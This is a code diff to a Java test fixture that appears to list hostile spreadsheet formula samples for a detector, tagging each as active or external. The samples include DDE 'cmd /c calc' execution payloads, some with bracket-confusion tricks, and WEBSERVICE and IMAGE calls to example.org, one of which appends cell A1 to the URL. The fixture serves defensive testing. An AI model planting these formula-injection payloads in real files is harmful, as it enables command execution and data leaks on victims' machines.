@@ -198,7 +198,7 @@ final class HostileFields {
                 formula("a server of this computer", "RTD(\"a\",,\"b\")", ACTIVE),
                 formula("a page", "_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)", EXTERNAL),
                 formula("a picture from the web", "_xlfn.IMAGE(\"http://example.org/\")", EXTERNAL),
-                formula("a program after a bracket that is none", "T['][\"]&amp;cmd|'/c calc'!A0&amp;\"x\"", ACTIVE),
+                formula("a program after a bracket that is none", "T[']\"]&amp;cmd|'/c calc'!A0&amp;\"x\"", ACTIVE),
                 formula("a page after a bracket that is none", "T[']\"]&amp;WEBSERVICE(\"a\")&amp;\"x\"", EXTERNAL),
                 formula("a program after an element", "cmd<q:x/>|'/c calc'!A0", ACTIVE),
                 formula("a program after a formula", "1<f>1</f>cmd|'/c calc'!A0", ACTIVE),
